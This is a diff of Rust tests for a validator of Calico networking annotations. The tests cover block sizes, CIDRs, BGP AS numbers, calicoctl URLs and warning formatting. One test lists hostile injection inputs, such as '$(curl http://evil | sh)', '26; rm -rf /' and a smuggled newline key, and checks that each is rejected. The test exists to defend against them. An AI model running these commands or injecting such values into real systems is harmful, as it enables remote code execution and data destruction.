+            ("CALICO_BGP_AS_NUMBER", "65100"),
+            ("CALICOCTL_URL", "http://m/{version}/{arch}"),
+            ("CALICOCTL_SHA256_AMD64", &sha),
+            ("CALICOCTL_SHA256_ARM64", &sha),
+            ("CALICO_BLOCK_SIZE", "122"),
+        ],
+        vec![
+            ("CALICO_VERSION", "v3.32.3"),
+            ("CALICOCTL_SHA256_ARM64", &sha),
+            ("INSTALL_CALICOCTL", "true"),
+            ("CALICOCTL_URL", "http://m/{version}/{arch}"),
+        ],
+    ];
+    for pairs in scenarios {
+        let (_, warnings) = settings(&pairs, None);
+        assert!(warnings.len() >= 2, "{warnings:?}");
+        for w in warnings {
+            assert!(w.chars().count() < 120, "{} chars: {w}", w.chars().count());
+        }
+    }
+    let many: Vec<String> = keys::KNOWN_KEYS[1..]
+        .iter()
+        .map(|k| format!("{PREFIX}{k}"))
+        .collect();
+    let all: BTreeMap<String, String> = many.into_iter().map(|k| (k, "x".into())).collect();
+    let Resolution::NotOptedIn { warnings } = resolve(&all, None) else {
+        panic!("not opted in")
+    };
+    assert!(warnings[0].chars().count() < 120, "{}", warnings[0]);
+    let long_key: BTreeMap<String, String> =
+        [(format!("{PREFIX}{}", "Z".repeat(500)), String::new())].into();
+    let Resolution::NotOptedIn { warnings } = resolve(&long_key, None) else {
+        panic!("not opted in")
+    };
+    assert!(warnings[0].chars().count() < 120, "{}", warnings[0]);
+}
+
+// ------------------------------------------------------------------------------------------------------------
+// Everything at once, hostile values, rendering
+
+#[test]
+fn all_problems_are_collected() {
+    let pairs = [
+        ("CALICO_BLOCKSIZE", "26"),
+        ("CALICO_BGP_OPTION", "enabled"),
+        ("CALICO_BLOCK_SIZE", "19"),
+        ("CALICO_POD_CIDR", "10.0.0.1/8"),
+        ("CALICO_ENCAPSULATION", "IPIP"),
+        ("CALICO_NAT_OUTGOING", "yes"),
+        ("INSTALL_CALICOCTL", "TRUE"),
+        ("CONFIGURE_CALICO_BGP_SETTINGS", "1"),
+        ("CALICO_BGP_AS_NUMBER", "0"),
+        ("CALICO_ROUTE_REFLECTORS", "not base64"),
+        ("CALICO_VERSION", "latest"),
+        ("CALICOCTL_URL", "ftp://x/{version}/{arch}"),
+        ("CALICOCTL_SHA256_AMD64", "abc"),
+        ("CALICOCTL_SHA256_ARM64", "def"),
+    ];
+    let p = problems(&pairs, None);
+    // 13: every key but CALICO_ENCAPSULATION (IPIP is valid; its BGP rule is not judged on an invalid option).
+    assert_eq!(p.len(), 13, "{p:#?}");
+    let text = render_problems(&p);
+    assert!(
+        text.starts_with("13 problems with the capi-calico.io annotations:\n- "),
+        "{text}"
+    );
+    assert_eq!(
+        text.lines().filter(|l| l.starts_with("- ")).count(),
+        13,
+        "{text}"
+    );
+}
+
+#[test]
+fn hostile_values_are_rejected_and_escaped() {
+    let huge = "9".repeat(1024 * 1024);
+    let hostile = [
+        "$(curl http://evil | sh)",
+        "`reboot`",
+        "26; rm -rf /",
+        "26\nINSTALL_CALICOCTL=true",
+        "26\0",
+        "'\"",
+        "\u{1b}[2J",
+        huge.as_str(),
+    ];
+    let keys = [
+        "CALICO_BGP_OPTION",
+        "CALICO_BLOCK_SIZE",
+        "CALICO_POD_CIDR",
+        "CALICO_ENCAPSULATION",
+        "CALICO_NAT_OUTGOING",
+        "INSTALL_CALICOCTL",
+        "CONFIGURE_CALICO_BGP_SETTINGS",
+        "CALICO_BGP_AS_NUMBER",
+        "CALICO_ROUTE_REFLECTORS",
+        "CALICO_VERSION",
+        "CALICOCTL_URL",
+        "CALICOCTL_SHA256_AMD64",
+        "CALICOCTL_SHA256_ARM64",
+    ];
+    for key in keys {
+        for value in hostile {
+            let p = problems(&[(key, value)], None);
+            assert!(!p.is_empty(), "{key}={value:?} accepted");
+            for problem in &p {
+                let line = problem.to_string();
+                assert!(
+                    !line.contains('\n') && !line.contains('\0') && !line.contains('\u{1b}'),
+                    "{line}"
+                );
+                assert!(line.len() < 1200, "{key}: {} chars", line.len());
+            }
+        }
+    }
+    // A huge unknown key is truncated too.
+    let p = problems(&[(&"K".repeat(100_000), "v")], None);
+    assert!(p[0].key.chars().count() < 140);
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(256))]
+
+    #[test]
+    fn resolve_never_panics(
+        entries in proptest::collection::vec(
+            (prop_oneof![
+                proptest::sample::select(keys::KNOWN_KEYS.to_vec()).prop_map(String::from),
+                "\\PC{0,24}",
+            ], "\\PC{0,40}"),
+            0..8,
+        ),
+        blocks in proptest::collection::vec(prop_oneof![
+            (any::<u32>(), 0u8..=32).prop_map(|(a, p)| IpNet::new(std::net::Ipv4Addr::from(a).into(), p).expect("prefix")),
+            (any::<u128>(), 0u8..=128).prop_map(|(a, p)| IpNet::new(std::net::Ipv6Addr::from(a).into(), p).expect("prefix")),
+        ], 0..3),
+    ) {
+        let mut all: BTreeMap<String, String> = entries.into_iter().map(|(k, v)| (format!("{PREFIX}{k}"), v)).collect();
+        all.insert(format!("{PREFIX}CUSTOM_CALICO_DEPLOYMENT"), "true".into());
+        let net = ClusterNetwork { pod_cidrs: blocks };
+        match resolve(&all, Some(&net)) {
+            Resolution::Invalid { problems } => {
+                prop_assert!(!problems.is_empty());
+                for p in &problems {
+                    prop_assert!(!p.to_string().contains('\n'));
+                    prop_assert!(!p.rule.is_empty());
+                }
+            }
+            Resolution::OptedIn { warnings, .. } | Resolution::NotOptedIn { warnings } => {
+                for w in &warnings {
+                    prop_assert!(w.chars().count() < 120, "{}", w);
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn accepted_values_round_trip(
+        block in 20u8..=32,
+        asn in 1u32..=2_147_483_647,
+        a in 1u8..=223,
+        prefix in 8u8..=20,
+        bgp in any::<bool>(),
+        nat in any::<bool>(),
+    ) {
+        let cidr = IpNet::new(std::net::Ipv4Addr::new(a, 0, 0, 0).into(), prefix).expect("prefix").trunc();
+        prop_assume!(!cidr.contains(&"169.254.0.0".parse::<std::net::IpAddr>().expect("ip")));
+        let bgp = if bgp { BgpOption::Enabled } else { BgpOption::Disabled };
+        let nat = if nat { NatOutgoing::Enabled } else { NatOutgoing::Disabled };
+        let (s, _) = settings(&[
+            ("CALICO_BLOCK_SIZE", &block.to_string()),
+            ("CALICO_POD_CIDR", &cidr.to_string()),
+            ("CALICO_BGP_AS_NUMBER", &asn.to_string()),
+            ("CALICO_BGP_OPTION", bgp.as_str()),
+            ("CALICO_NAT_OUTGOING", nat.as_str()),
+        ], None);
+        prop_assert_eq!(s.pod_pool, Some(PodPool { cidr, block_size: block }));
+        prop_assert_eq!(s.as_number, Some(asn));
+        prop_assert_eq!(s.bgp, bgp);
+        prop_assert_eq!(s.nat_outgoing, nat);
+        // asdot form of the same number resolves to the same value.
+        let asdot = format!("{}.{}", asn >> 16, asn & 0xffff);
+        let (s2, _) = settings(&[("CALICO_BGP_AS_NUMBER", &asdot)], None);
+        prop_assert_eq!(s2.as_number, Some(asn));
+    }
+}
